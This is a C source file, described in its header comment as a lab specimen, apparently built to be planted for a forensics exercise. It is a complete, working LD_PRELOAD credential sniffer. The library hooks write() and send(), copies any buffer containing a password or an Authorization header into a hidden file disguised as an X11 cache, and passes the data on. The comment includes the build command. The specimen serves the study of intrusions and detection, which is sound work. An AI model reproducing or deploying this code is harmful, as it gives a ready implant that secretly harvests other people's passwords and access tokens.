/* kcsi lab specimen: an LD_PRELOAD credential sniffer. It wraps write() and send() and appends
 * every buffer that holds a password or an Authorization header to the hidden file LOG before
 * passing it on. Built by the scene on the host with -DLOG="..." (gcc -shared -fPIC). */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef LOG
#define LOG "/var/tmp/.X11-cache/.l"
#endif

static ssize_t (*real_write)(int, const void *, size_t);

static void keep(const void *buf, size_t n)
{
    if (memmem(buf, n, "assword", 7) || memmem(buf, n, "Authorization:", 14)) {
        int fd = open(LOG, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0600);
        if (fd >= 0) {
            real_write(fd, buf, n);
            close(fd);
        }
    }
}

ssize_t write(int fd, const void *buf, size_t n)
{
    if (!real_write)
        real_write = (ssize_t (*)(int, const void *, size_t))dlsym(RTLD_NEXT, "write");
    keep(buf, n);
    return real_write(fd, buf, n);
}

ssize_t send(int fd, const void *buf, size_t n, int flags)
{
    static ssize_t (*real)(int, const void *, size_t, int);

    if (!real)
        real = (ssize_t (*)(int, const void *, size_t, int))dlsym(RTLD_NEXT, "send");
    if (!real_write)
        real_write = (ssize_t (*)(int, const void *, size_t))dlsym(RTLD_NEXT, "write");
    keep(buf, n);
    return real(fd, buf, n, flags);
}
